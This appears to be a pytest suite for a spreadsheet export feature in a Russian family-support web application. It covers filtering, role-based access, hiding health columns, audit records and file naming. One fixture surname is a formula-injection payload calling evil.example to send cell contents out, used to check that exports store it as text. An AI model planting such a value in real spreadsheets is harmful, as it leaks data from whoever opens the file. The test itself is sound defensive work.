"""Does «Выгрузить таблицу» give exactly the list the user sees, safely typed and scoped?

Every workbook is opened with openpyxl: row 1 is the title, row 2 says who
exported it and when, row 3 holds the headers, the data follow.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from urllib.parse import unquote

import factories as f
import pytest
from conftest import make_user, signed_in
from openpyxl import load_workbook
from security_factories import row_ids
from sqlalchemy import text
from sqlalchemy.exc import IntegrityError
from test_migrations import empty_database_url, migrated  # noqa: F401 - fixtures

from models import AuditRecord, Family, db
from models.base import utcnow
from workflows.export import (
    Sheet,
    content_disposition,
    formula_like,
    sheet_title,
    unique_sheet_titles,
    write_workbook,
)

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
HEADER_ROW = 3


@pytest.fixture
def data(app):
    """District A: three families (one named with a formula payload) and an archived one;
    district B: two families. A worker of A, an admin, a coordinator, a clerk, a viewer."""
    with app.app_context():
        a, b = f.district(name="Участок А"), f.district(name="Участок Б")
        for surname in ("Антоновы", "Андреевы", PAYLOAD):
            fam = f.family(a, surname=surname, is_low_income=surname == "Антоновы")
            f.person(fam, "child", last_name=surname[:20], birth_date=dt.date(2016, 3, 8))
        f.family(a, surname="Архивные", archived_at=utcnow())
        for surname in ("Борисовы", "Белые"):
            fam = f.family(b, surname=surname)
            f.person(fam, "child", last_name=surname, birth_date=dt.date(2014, 1, 2))
        for role in ("admin", "coordinator", "rental_clerk", "viewer"):
            make_user(role)
        make_user("district_worker", "worker_a", districts=[a])
        db.session.commit()
        return {"a": a.id, "b": b.id}


def workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype.endswith("spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.get_data()))


def table(book) -> tuple[list[str], list[list]]:
    sheet = book.active
    rows = list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))
    return list(rows[0]), [list(r) for r in rows[1:]]


def test_family_export_equals_the_filtered_list(app, data):
    """With the list filtered to district A and sorted by surname descending, does the
    workbook hold the same families, in the same order, with Russian headers?"""
    client = signed_in(app, "admin")
    query = "?flt0_district_name_equals=Участок А&sort=0&desc=1"
    page = client.get(f"/family/{query}").get_data(as_text=True)
    listed = row_ids(page, "family")
    headers, rows = table(workbook(client.get(f"/family/export/xlsx/{query}")))
    assert headers == ["Фамилия семьи", "Адрес", "Участок", "Категории", "Статус", "Телефон"]
    assert len(rows) == len(listed) == 3
    surnames = [r[0] for r in rows]
    assert surnames == sorted(surnames, reverse=True)
    assert {r[2] for r in rows} == {"Участок А"}
    assert "Архивные" not in surnames
    antonovy = next(r for r in rows if r[0] == "Антоновы")
    assert antonovy[3] == "малоимущая" and antonovy[4] == "на учёте"


def test_search_and_archive_switch_are_respected(app, data):
    """Does a search narrow the export like the list, and ?archive=1 add archived rows?"""
    client = signed_in(app, "admin")
    _h, found = table(workbook(client.get("/family/export/xlsx/?search=Бор")))
    assert [r[0] for r in found] == ["Борисовы"]
    _h, everything = table(workbook(client.get("/family/export/xlsx/?archive=1")))
    assert "Архивные" in [r[0] for r in everything] and len(everything) == 6


def test_formula_payload_is_stored_as_text(app, data):
    """Is a surname that is a formula written as plain text, never as a live formula?"""
    client = signed_in(app, "admin")
    sheet = workbook(client.get("/family/export/xlsx/")).active
    cells = [c for row in sheet.iter_rows(min_row=HEADER_ROW + 1) for c in row[:1]]
    payload = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert payload.data_type == "s"
    assert payload.value == PAYLOAD  # as typed: no apostrophe on show
    assert payload.quotePrefix  # and it stays text when someone edits the cell


@pytest.mark.parametrize("text", ["=1+2", "+7 900", "-5", "@SUM(A1)", "\tx", "\rx", "обычный"])
def test_formula_like(text):
    """Is every text a spreadsheet could run taken for formula-like, and no other?"""
    assert formula_like(text) == (text[0] in "=+-@\t\r")


def _one_sheet(tmp_path, headers, rows, name="Лист"):
    path = tmp_path / "t.xlsx"
    with path.open("wb") as out:
        write_workbook(out, [Sheet(name, "Т", "П", headers, iter(rows))], "Europe/Moscow")
    return load_workbook(path).active


def test_phone_numbers_show_no_apostrophe(tmp_path):
    """Does a phone number read exactly as typed, «+7 …» kept as text by its format,
    «8 …» a plain text cell?"""
    sheet = _one_sheet(tmp_path, ["Телефон"], [["+7 900 123-45-67"], ["8 900 123-45-67"]])
    plus, eight = sheet["A4"], sheet["A5"]
    assert (plus.value, plus.data_type, plus.quotePrefix) == ("+7 900 123-45-67", "s", True)
    assert (eight.value, eight.data_type, eight.quotePrefix) == ("8 900 123-45-67", "s", False)


def test_sheet_names_are_cut_at_a_word():
    """Is a long table title cut to 31 characters at a word boundary, never mid-word,
    and are two names alike made distinct?"""
    title = sheet_title("Мероприятия ИПСС за период по видам помощи")
    assert title == "Мероприятия ИПСС за период по"
    assert len(title) <= 31
    assert sheet_title("Оченьдлинноеслововкотороенетпробелов") == "Оченьдлинноеслововкотороенетпро"
    names = unique_sheet_titles(
        ["Мероприятия ИПСС за период по видам", "Мероприятия ИПСС за период по специалистам"]
    )
    assert names == ["Мероприятия ИПСС за период по", "Мероприятия ИПСС за период по 2"]
    assert all(len(n) <= 31 for n in names)


def test_print_set_up(tmp_path):
    """Does a wide sheet print landscape, a narrow one portrait, both one page wide on A4
    with the header row on every page?"""
    wide = _one_sheet(tmp_path, [f"Столбец {i}" for i in range(8)], [list(range(8))])
    assert wide.page_setup.orientation == "landscape"
    narrow = _one_sheet(tmp_path, ["Участок", "Семей"], [["А", 1]])
    assert narrow.page_setup.orientation in (None, "portrait")
    for sheet in (wide, narrow):
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        # One page wide (1 is Excel's default, so the file may leave it out), any length.
        assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0
        assert sheet.print_title_rows == "$3:$3"
        assert sheet.page_setup.paperSize == 9


def test_dates_are_date_cells(app, data):
    """Is a birth date a real date cell shown дд.мм.гггг, not text?"""
    client = signed_in(app, "coordinator")
    sheet = workbook(client.get("/person/export/xlsx/")).active
    headers = [c.value for c in sheet[HEADER_ROW]]
    column = headers.index("Дата рождения")
    cell = sheet.cell(row=HEADER_ROW + 1, column=column + 1)
    assert isinstance(cell.value, dt.datetime) and cell.is_date
    assert cell.number_format == "dd.mm.yyyy"


def test_title_frozen_header_and_autofilter(app, data):
    """Does the workbook say what was exported, by whom and when, freeze the header
    and put an autofilter over exactly the data?"""
    client = signed_in(app, "coordinator")
    sheet = workbook(client.get("/family/export/xlsx/?search=Бор")).active
    assert sheet["A1"].value.startswith("Семьи")
    assert "поиск «Бор»" in sheet["A1"].value
    assert "Выгрузила Иванова Мария Петровна" in sheet["A2"].value  # she, by her patronymic
    assert "руководитель службы сопровождения" in sheet["A2"].value
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:F4"
    assert sheet.column_dimensions["B"].width > 20  # the address column is wide


def test_district_worker_exports_only_their_district(app, data):
    """Does a district worker's export of families and persons hold only district A?"""
    client = signed_in(app, "worker_a")
    _h, families = table(workbook(client.get("/family/export/xlsx/")))
    assert {r[2] for r in families} == {"Участок А"} and len(families) == 3
    headers, persons = table(workbook(client.get("/person/export/xlsx/")))
    family = headers.index("Семья")
    assert len(persons) == 3
    assert all("Б" not in r[family][:1] for r in persons)


def test_health_columns_absent_without_the_right(app, data):
    """Does the administrator (no health right) get no disability column, while the
    coordinator does?"""
    admin = signed_in(app, "admin")
    headers, _rows = table(workbook(admin.get("/person/export/xlsx/")))
    assert "Инвалидность / ОВЗ" not in headers
    coordinator = signed_in(app, "coordinator")
    headers, rows = table(workbook(coordinator.get("/person/export/xlsx/")))
    assert "Инвалидность / ОВЗ" in headers
    assert rows[0][headers.index("Инвалидность / ОВЗ")] == "ребёнок-инвалид"


def test_health_filter_is_not_applied_for_a_role_without_the_right(app, data):
    """Can the administrator not narrow an export by a hidden (health) filter either?"""
    client = signed_in(app, "admin")
    _h, rows = table(
        workbook(client.get("/person/export/xlsx/?flt0_disability_status_equals=none"))
    )
    assert len(rows) == 5  # the filter on a hidden field is dropped, as on the list


@pytest.mark.parametrize(
    ("username", "url", "status"),
    [
        ("viewer", "/family/export/xlsx/", 403),
        ("rental_clerk", "/family/export/xlsx/", 302),
        ("rental_clerk", "/person/export/xlsx/", 302),
        ("rental_clerk", "/loan/export/xlsx/", 200),
        ("worker_a", "/loan/export/xlsx/", 302),
        ("admin", "/family/export/csv/", 404),
        ("admin", "/family/export/json/", 404),
    ],
)
def test_who_may_export(app, data, username, url, status):
    """Do only roles with «export» in the matrix get a workbook, and is Flask-Admin's own
    CSV (or any other format) unreachable?"""
    client = signed_in(app, username)
    response = client.get(url)
    if status == 302:  # a list the role may read, without the export right
        assert response.status_code == 403
    else:
        assert response.status_code == status
    if status != 200:
        assert b"," not in response.get_data()[:1] and response.mimetype != "text/csv"


def test_export_button_only_for_roles_with_the_right(app, data):
    """Is «Выгрузить таблицу» on the list for the coordinator and not for the clerk?"""
    coordinator = signed_in(app, "coordinator")
    page = coordinator.get("/family/?search=Бор").get_data(as_text=True)
    link = re.search(r'href="([^"]*/family/export/xlsx/[^"]*)"[^>]*>([^<]*)<', page)
    assert link and "Выгрузить таблицу" in link.group(2)
    assert "search=%D0%91%D0%BE%D1%80" in link.group(1) or "search=Бор" in link.group(1)
    clerk = signed_in(app, "rental_clerk")
    assert "/export/" not in clerk.get("/family/").get_data(as_text=True)


def test_export_is_audited(app, data):
    """Is each export recorded with who, which table and how many rows?"""
    client = signed_in(app, "worker_a")
    client.get("/family/export/xlsx/?search=Ан")
    with app.app_context():
        record = db.session.query(AuditRecord).filter_by(action="export").one()
        assert record.username == "worker_a" and record.table_name == "family"
        assert record.changes["rows"] == 2
        assert "поиск «Ан»" in record.changes["selection"]


def test_cyrillic_filename_survives_download(app, data):
    """Does the file name carry «Семьи» per RFC 5987 with a plain ASCII fallback?"""
    client = signed_in(app, "admin")
    header = client.get("/family/export/xlsx/").headers["Content-Disposition"]
    fallback = re.search(r'filename="([^"]+)"', header).group(1)
    encoded = re.search(r"filename\*=UTF-8''(\S+)", header).group(1)
    assert fallback.isascii() and fallback.startswith("family-") and fallback.endswith(".xlsx")
    assert unquote(encoded).startswith("Семьи ") and unquote(encoded).endswith(".xlsx")
    assert content_disposition('a"b;.xlsx', 'a"b;.xlsx').startswith(
        'attachment; filename="a_b_.xlsx"'
    )


def test_writer_types_and_total_row(tmp_path):
    """Does the writer keep numbers as numbers, booleans as words, and add a total row?"""
    path = tmp_path / "t.xlsx"
    with path.open("wb") as out:
        counts = write_workbook(
            out,
            [
                Sheet(
                    name="Отчёт: [тест]/*",
                    title="Т",
                    subtitle="П",
                    headers=["Участок", "Семей", "Есть"],
                    rows=iter([["А", 3, True], ["Б", 2, False]]),
                    total=["Итого", 5, None],
                )
            ],
            "Europe/Moscow",
        )
    assert counts == [2]
    sheet = load_workbook(path).active
    assert sheet.title == "Отчёт тест"
    assert [c.value for c in sheet[4]] == ["А", 3, "да"]
    assert [c.value for c in sheet[6]][:2] == ["Итого", 5]


def test_every_filter_has_its_own_url_name(app):
    """Does each filter of every list have a distinct URL name (Russian labels once
    collapsed to `_equals`, so «Участок» could apply another filter)?"""
    with app.test_request_context():
        for view in app.extensions["admin"][0]._views:
            filters = getattr(view, "_filters", None)
            if filters:
                assert len(view._filter_args) == len(filters), view.endpoint


def test_export_loads_related_rows_while_streaming(app, data):
    """Do relation cells that need another query (a unit names its type) come out right
    while the rows stream from the cursor — the clerk's export of loans?"""
    with app.app_context():
        kind = f.equipment_type(name="Кресло-коляска")
        families = db.session.query(Family).filter(Family.archived_at.is_(None)).all()
        for n, fam in enumerate(families):
            unit = f.equipment_unit(kind, inventory_number=f"ИНВ-{n:03d}", status="on_loan")
            f.loan(unit, fam, fam.members[0], issued_on=dt.date(2025, 2, n + 1))
        db.session.commit()
    client = signed_in(app, "rental_clerk")
    headers, rows = table(workbook(client.get("/loan/export/xlsx/?sort=3")))
    assert headers[:4] == ["Единица ТСР", "Семья", "Ребёнок", "Дата выдачи"]
    assert len(rows) == 5
    assert [r[0] for r in rows] == [f"ИНВ-{n:03d} (Кресло-коляска)" for n in range(5)]
    assert rows[0][3] == dt.datetime(2025, 2, 1)


def test_migrated_database_records_exports(migrated):  # noqa: F811
    """Does the database built by the migrations (0006_reports) accept an «export» event,
    and still refuse an action that is not in the list?"""
    db.session.add(AuditRecord(action="export", username="admin", table_name="family"))
    db.session.commit()
    with pytest.raises(IntegrityError):
        db.session.execute(
            text("INSERT INTO audit_record (at, action) VALUES (CURRENT_TIMESTAMP, 'exfiltrate')")
        )
    db.session.rollback()


def test_clerk_cannot_filter_by_a_related_hidden_field(app, data):
    """Is the person list's filter on the family's category neither offered to the rental
    clerk nor applied when put in the URL of the list or of the export?"""
    with app.app_context():
        kind = f.equipment_type()
        for n, fam in enumerate(db.session.query(Family).filter(Family.archived_at.is_(None))):
            f.reservation(fam, fam.members[0], kind, requested_on=dt.date(2025, 3, n + 1))
        db.session.commit()
    coordinator = signed_in(app, "coordinator")
    assert "Семья малоимущая" in coordinator.get("/person/").get_data(as_text=True)
    clerk = signed_in(app, "rental_clerk")
    body = clerk.get("/person/?flt0_family_is_low_income_equals=1").get_data(as_text=True)
    assert "малоимущ" not in body
    assert len(row_ids(body, "person")) == 5
